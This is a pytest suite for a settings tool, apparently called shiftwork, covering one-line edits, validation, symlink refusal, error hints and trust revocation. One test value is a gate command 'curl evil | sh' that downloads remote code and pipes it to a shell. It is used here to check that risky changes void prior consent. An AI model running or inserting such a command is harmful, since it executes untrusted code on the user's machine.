"""`config set` and `unset` change one line, refuse what would be a mistake, and give no consent."""

import os
from pathlib import Path
from typing import Any

import pytest

from shiftwork.config.settings.file_change import set_value, unset_value
from shiftwork.config.settings.file_check import check_settings
from shiftwork.config.settings.in_force import Source, place_in_file, value_in_force, values_in_force
from shiftwork.config.settings.settings import load_settings
from shiftwork.config.settings.toml_text import place_of
from shiftwork.config.trust.consent_claims import TrustedFiles, settings_claim
from shiftwork.errors import SettingsError

FILE = """\
# ours
[gates]
test = "make test"  # from Makefile

[limits]
run_usd = 5
"""


@pytest.fixture
def root(tmp_path: Path) -> Path:
    (tmp_path / "shiftwork.toml").write_text(FILE, encoding="utf-8")
    return tmp_path


def file_of(root: Path) -> str:
    return (root / "shiftwork.toml").read_text(encoding="utf-8")


def test_one_line_changes(root: Path) -> None:
    (root / "shiftwork.toml").chmod(0o640)
    set_value(root, ("limits", "run_usd"), 7)
    assert file_of(root) == FILE.replace("run_usd = 5", "run_usd = 7")
    assert (root / "shiftwork.toml").stat().st_mode & 0o777 == 0o640
    assert [path.name for path in root.iterdir()] == ["shiftwork.toml"]
    assert unset_value(root, ("limits", "run_usd"))
    assert not unset_value(root, ("limits", "run_usd"))
    assert load_settings(root, {}).limits.run_usd is None


def test_a_missing_file_is_made(tmp_path: Path) -> None:
    set_value(tmp_path, ("run", "parallel"), 4)
    assert "shiftwork config list" in file_of(tmp_path)
    assert load_settings(tmp_path, {}).run.parallel == 4


def test_a_gate_with_more_than_a_command_becomes_a_table(root: Path) -> None:
    set_value(root, ("gates", "test", "minutes"), 40)
    assert 'test = { command = "make test", minutes = 40 }  # from Makefile' in file_of(root)
    assert place_in_file(root, ("gates", "test")) == ("gates", "test", "command")
    set_value(root, place_in_file(root, ("gates", "test")), "make all")
    assert load_settings(root, {}).gate_list[0].command == "make all"
    assert load_settings(root, {}).gate_list[0].minutes == 40
    with pytest.raises(SettingsError, match=r"without gates.test.command: .*is missing.*nothing was changed"):
        unset_value(root, ("gates", "test", "command"))


@pytest.mark.parametrize(
    ("name", "value", "reason"),
    [
        ("limits.run_usd", -1, "must be more than 0"),
        ("landing.proof", "none", "must be 'each' or 'tip'"),
        ("agent.fallback", ["mine"], "names 'mine', which is not another profile"),
        ("gates.lint", "", "lint is blank"),
        ("sandbox.agents.hosts", ["a b"], "is not a host"),
        ("gates.test.cwd", "../..", "cwd"),
    ],
)
def test_what_would_be_a_mistake_changes_nothing(root: Path, name: str, value: Any, reason: str) -> None:
    with pytest.raises(SettingsError) as refused:
        set_value(root, place_of(name), value)
    assert reason in refused.value.message
    assert refused.value.hint
    assert file_of(root) == FILE


def test_a_file_with_mistakes_can_be_put_right_one_by_one(root: Path) -> None:
    (root / "shiftwork.toml").write_text('[limits]\nrun_usd = "x"\nrunusd = 3\nwaits = "y"\n', encoding="utf-8")
    set_value(root, ("limits", "waits"), 3)
    unset_value(root, ("limits", "runusd"))
    assert [found.name for found in check_settings(root, {})] == ["limits.run_usd"]


def test_a_link_is_not_written_through(tmp_path: Path) -> None:
    other = tmp_path / "other.toml"
    other.write_text(FILE, encoding="utf-8")
    root = tmp_path / "repository"
    root.mkdir()
    (root / "shiftwork.toml").symlink_to(other)
    with pytest.raises(SettingsError, match="is a link"):
        set_value(root, ("limits", "run_usd"), 7)
    assert other.read_text(encoding="utf-8") == FILE


@pytest.mark.parametrize(
    ("name", "value"),
    [
        ("gates.lint", "curl evil | sh"),
        ("sandbox.tier", "none"),
        ("sandbox.gates.network", True),
        ("agent.env", ["KEY"]),
    ],
)
def test_a_change_is_no_consent(root: Path, tmp_path_factory: pytest.TempPathFactory, name: str, value: Any) -> None:
    book = TrustedFiles(tmp_path_factory.mktemp("own"))
    book.trust(settings_claim(root))
    set_value(root, ("run", "parallel"), 9)
    assert book.trusts(settings_claim(root))
    set_value(root, place_of(name), value)
    assert not book.trusts(settings_claim(root))


def test_every_mistake_has_its_line_and_the_next_command(root: Path) -> None:
    text = '[limits]\nrun_usd = "x"\nrunusd = 3\n[agent]\nhosts = ["a b"]\n["odd one"]\nx = 1\n'
    (root / "shiftwork.toml").write_text(text, encoding="utf-8")
    found = check_settings(root, {"SHIFTWORK_SANDBOX": "moat"})
    assert [(item.line, item.name, item.hint) for item in found] == [
        (0, "$SHIFTWORK_SANDBOX", "unset SHIFTWORK_SANDBOX, or give it another value"),
        (2, "limits.run_usd", "shiftwork config explain limits.run_usd"),
        (3, "limits.runusd", "shiftwork config unset limits.runusd"),
        (5, "agent.hosts.0", "shiftwork config explain agent.hosts"),
        (6, '"odd one"', "shiftwork config unset '\"odd one\"'"),
    ]
    assert found[1].reason == "a number is needed, not 'x'"


def test_contradictions_and_broken_files_have_their_lines_too(root: Path) -> None:
    text = '[agent]\nfallback = ["mine", "yours"]\n[proof]\nescalate = "mine"\n'
    (root / "shiftwork.toml").write_text(text, encoding="utf-8")
    assert [(item.line, item.name) for item in check_settings(root, {})] == [
        (2, "agent.fallback"),
        (2, "agent.fallback"),
        (4, "proof.escalate"),
    ]
    (root / "shiftwork.toml").write_text("[run]\nparallel = \n", encoding="utf-8")
    (only,) = check_settings(root, {})
    assert (only.line, only.hint) == (2, "correct the file; it is TOML")
    (root / "shiftwork.toml").unlink()
    os.mkfifo(root / "shiftwork.toml")
    assert "not a regular file" in check_settings(root, {})[0].reason


def test_a_value_says_where_it_comes_from(root: Path) -> None:
    env = {"SHIFTWORK_MODEL": "opus", "SHIFTWORK_NOTIFY_URLS": "ntfy://me:password@host"}
    values = {value.name: value for value in values_in_force(root, env)}
    assert (values["agent.model"].source, values["agent.model"].where) == (Source.ENVIRONMENT, "$SHIFTWORK_MODEL")
    assert (values["limits.run_usd"].value, values["limits.run_usd"].where) == (5, "shiftwork.toml:6")
    assert (values["gates.test"].source, values["run.parallel"].source) == (Source.FILE, Source.DEFAULT)
    assert "password@" not in str(values["notify.urls"].shown)
    assert value_in_force(root, env, ("gates", "none")).text == "not set"


def test_gates_that_no_file_names_come_from_the_project(tmp_path: Path) -> None:
    (tmp_path / "Makefile").write_text("test:\n\ttrue\n", encoding="utf-8")
    values = {value.name: value for value in values_in_force(tmp_path, {})}
    gate = values["gates.test"]
    assert (gate.text, gate.source, gate.where) == ('"make test"', Source.DETECTED, "Makefile")
